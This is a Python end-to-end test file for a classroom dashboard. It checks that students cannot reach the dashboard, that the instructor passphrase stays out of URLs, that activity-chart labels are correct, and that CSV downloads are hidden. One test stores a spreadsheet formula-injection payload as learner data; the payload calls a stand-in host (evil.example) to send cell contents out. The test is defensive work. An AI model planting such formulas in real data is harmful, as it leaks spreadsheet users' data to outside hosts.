"""The class dashboard in a real browser: hidden from students' navigation, its URL shows only
the sign-in, and the passphrase opens it without ever reaching the URL."""

import pytest

from tests.e2e.conftest import fresh_server, wait_connected
from toolcall.progress import ProgressStore

pytestmark = pytest.mark.e2e
PASSPHRASE = "browser test passphrase"


def settle(page):
    wait_connected(page)
    page.wait_for_selector('[data-testid="stStatusWidget"]', state="detached", timeout=60000)


def test_students_never_see_it_and_the_passphrase_stays_out_of_the_url(page, tmp_path):
    store = ProgressStore(tmp_path)
    store.record("alice", "pk_pass3", "alice-private-answer", 0, 1)
    store.close()
    page.set_default_timeout(90_000)
    with fresh_server(env={"TOOLCALL_DATA_DIR": str(tmp_path), "TOOLCALL_INSTRUCTOR_PASSPHRASE": PASSPHRASE}) as url:
        page.goto(f"{url}/home?learner=student-1")
        settle(page)
        nav = page.locator('[data-testid="stSidebarNav"]').inner_text()
        assert "Exercises" in nav and "Class dashboard" not in nav

        page.goto(f"{url}/dashboard?learner=student-1")
        page.wait_for_selector(".st-key-dashboard_passphrase input[type=password]")
        settle(page)
        body = page.locator('[data-testid="stMain"]').inner_text()
        assert "Enter the instructor passphrase" in body
        assert "Learners seen" not in body and "alice" not in body

        page.locator(".st-key-dashboard_passphrase input").fill(PASSPHRASE)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_selector('[data-testid="stMetric"]')
        settle(page)
        assert "Learners seen" in page.locator('[data-testid="stMain"]').inner_text()
        assert "Class dashboard" in page.locator('[data-testid="stSidebarNav"]').inner_text()
        assert PASSPHRASE.split()[0] not in page.url and "passphrase" not in page.url


def test_the_activity_chart_labels_each_minute_once_where_the_tries_were(page, tmp_path):
    """Newcomer session 7: each minute was written twice under the chart (10:40, 10:40, 10:41 …) and four
    tries at 10:42-10:47 filled it as one 10:40-10:50 block. Read back from the SVG Streamlit's Vega draws
    (a spec can compile and draw no label at all: epoch-millisecond tick values did, an {"interval": …}
    tick count threw): one label per minute from 10:39 to 10:51, none repeated."""
    import re

    store = ProgressStore(tmp_path)
    for who, minute, score in (("ann", 42, 0), ("ben", 43, 0), ("cat", 45, 0), ("cat", 47, 1)):
        store.record(who, "pk_pass3", f"answer {minute}", score, 1, at=f"2026-12-01T10:{minute}:00+00:00")
    store.close()
    page.set_default_timeout(90_000)
    with fresh_server(env={"TOOLCALL_DATA_DIR": str(tmp_path), "TOOLCALL_INSTRUCTOR_PASSPHRASE": PASSPHRASE}) as url:
        page.set_viewport_size({"width": 1366, "height": 768})
        page.goto(f"{url}/dashboard?learner=teacher-1")
        page.wait_for_selector(".st-key-dashboard_passphrase input[type=password]")
        settle(page)
        page.locator(".st-key-dashboard_passphrase input").fill(PASSPHRASE)
        page.get_by_role("button", name="Sign in").click()
        chart = page.locator('[data-testid="stVegaLiteChart"]').first
        chart.scroll_into_view_if_needed()
        page.wait_for_function("() => document.querySelectorAll('[data-testid=\"stVegaLiteChart\"] svg text').length > 5")
        texts = chart.locator("svg text").evaluate_all("nodes => nodes.map(n => n.textContent)")
        assert [x for x in texts if re.fullmatch(r"\d\d:\d\d", x)] == [f"10:{m}" for m in range(39, 52)]


def test_no_table_of_the_dashboard_downloads_a_learners_formula(page, tmp_path):
    """A learner's answer is shown as typed in the learner detail; st.dataframe's own "Download as CSV" wrote it
    as typed, and ``=HYPERLINK(…)`` ran in the instructor's spreadsheet (break-it pass brk19web). The page's
    export prefixes it with '; the tables' button is hidden, the rest of their toolbar stays."""
    import re

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for grade")'
    store = ProgressStore(tmp_path)
    store.record("mallory", "pk_pass3", formula, 0, 1)
    store.close()
    page.set_default_timeout(90_000)
    with fresh_server(env={"TOOLCALL_DATA_DIR": str(tmp_path), "TOOLCALL_INSTRUCTOR_PASSPHRASE": PASSPHRASE}) as url:
        page.goto(f"{url}/dashboard?learner=teacher-1")
        page.wait_for_selector(".st-key-dashboard_passphrase input[type=password]")
        settle(page)
        page.locator(".st-key-dashboard_passphrase input").fill(PASSPHRASE)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_selector('[data-testid="stMetric"]')
        settle(page)
        page.locator(".st-key-dashboard_learner [data-testid=stSelectbox] input").click()
        page.keyboard.type("mallory")
        page.keyboard.press("Enter")
        page.wait_for_function("document.querySelectorAll('[data-testid=stDataFrame]').length == 4")
        settle(page)  # the exercises, the learners, and mallory's two, where her answer is as typed:
        page.locator("[role=gridcell]", has_text=re.compile(r"^=HYPERLINK\(")).first.wait_for(state="attached")
        tables = page.locator('[data-testid="stDataFrame"]')
        for i in range(tables.count()):
            tables.nth(i).hover()
            page.locator("button[aria-label='Search']:visible").nth(i).wait_for()  # each toolbar is drawn
        assert page.locator("button[aria-label='Search']:visible").count() == 4
        assert page.locator("button[aria-label='Download as CSV']:visible").count() == 0
